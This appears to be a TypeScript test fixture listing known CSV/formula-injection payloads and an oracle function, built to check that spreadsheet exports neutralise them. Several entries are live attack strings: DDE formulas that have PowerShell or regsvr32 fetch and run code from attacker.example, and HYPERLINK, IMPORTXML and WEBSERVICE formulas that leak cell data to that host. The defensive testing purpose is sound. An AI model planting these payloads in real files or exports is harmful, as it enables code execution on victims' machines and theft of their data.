// Known CSV/formula-injection payloads (OWASP "CSV Injection", PayloadsAllTheThings "CSV Injection",
// published DDE and Google Sheets exfiltration write-ups), plus the variants that slip past a check of the
// first character alone: line breaks inside the cell, leading whitespace, tab, CR, invisible characters
// and full-width signs. Every export must write each one so no spreadsheet evaluates it.
export const CSV_INJECTION_PAYLOADS: readonly string[] = [
  // DDE: runs a program in Excel (with a warning the victim is asked to accept).
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget http://attacker.example/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "=10+20+cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll'!''",
  "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
  "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "-1+1|cmd|' /C calc'!A0",
  // Exfiltration and phishing through links and web functions.
  "=HYPERLINK(\"http://attacker.example/?leak=\"&A1&A2,\"Error: please click here\")",
  "+HYPERLINK(\"http://attacker.example\",\"click\")",
  "-HYPERLINK(\"http://attacker.example\",\"click\")",
  "@HYPERLINK(\"http://attacker.example\",\"click\")",
  "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
  "=IMPORTDATA(\"http://attacker.example/x.csv\")",
  "=IMPORTRANGE(\"https://docs.google.com/spreadsheets/d/x\",\"A1:Z100\")",
  "=IMAGE(\"http://attacker.example/pixel.png\")",
  "=WEBSERVICE(\"http://attacker.example/?\"&A1)",
  "=INFO(\"system\")",
  // Plain arithmetic, the smallest proofs.
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "=1+1;=2+2",
  "a;=1+1",
  "\";=1+1;\"",
  "\"=1+1\"",
  // Line breaks inside the cell (the finding: the old check missed "=..." with a line break in it).
  "=1+1\n",
  "=1+1\r\n",
  "=1+1\nJohn",
  "=HYPERLINK(\"http://attacker.example\")\r\nsecond line",
  "\n=1+1",
  "\r\n=1+1",
  "John\n=1+1",
  "John\r=cmd|' /C calc'!A0",
  "John\u2028=1+1",
  "John\u0085@SUM(1)",
  // Leading tab, CR, LF, spaces and invisible characters before the sign.
  "\t=1+1",
  "\t",
  "\tJohn",
  "\r",
  "\r=1+1",
  "\rJohn",
  "\nJohn",
  " =1+1",
  "   +1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u202e=1+1",
  "\u200e-2+3",
  "\u0000=1+1",
  "\u000b=1+1",
  "\u000c@SUM(1)",
  // Full-width signs.
  "＝1+1",
  "＝cmd|' /C calc'!A0",
  "＋1+1",
  "－2+3",
  "＠SUM(1+1)",
  " ＝1+1",
];

const SIGNS = new Set(["=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"]);

/**
 * The tests' oracle, written apart from the code under test: would a spreadsheet (or an importer that
 * first trims spaces and invisible characters) evaluate this cell? A number such as "-1234.50" is a
 * number, not a formula.
 */
export function spreadsheetWouldEvaluate(cell: string): boolean {
  if (/^-?\d+(\.\d+)?$/.test(cell)) return false;
  if (cell.startsWith("\t") || cell.startsWith("\r") || cell.startsWith("\n")) return true;
  for (const ch of cell) {
    if (/\s/.test(ch) || /\p{C}/u.test(ch)) continue;
    return SIGNS.has(ch);
  }
  return false;
}
